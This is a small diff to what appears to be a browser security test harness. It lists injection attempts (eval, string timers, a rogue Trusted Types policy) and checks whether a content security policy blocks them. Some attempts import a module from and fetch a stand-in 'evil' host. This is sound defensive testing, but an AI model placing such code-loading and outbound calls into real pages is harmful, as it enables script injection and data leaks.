@@ -187,7 +187,7 @@ ATTEMPTS = """() => new Promise((resolve) => setTimeout(async () => {
     eval: await tried(() => eval('window.injected = 1')),
     'timer of text': await tried(() => setTimeout('window.injected = 1')),
     'policy of its own': await tried(() => trustedTypes.createPolicy('mine', {})),
-    'module of evil': await tried(() => import(`${evil}/harness/scenarios/places.js`)),
+    'module of evil': await tried(() => import(`${evil}/harness/scenarios/origins.js`)),
     'fetch to evil': await tried(() => fetch(evil)),
     'image of evil': await tried(image),
     injected: window.injected ?? null,
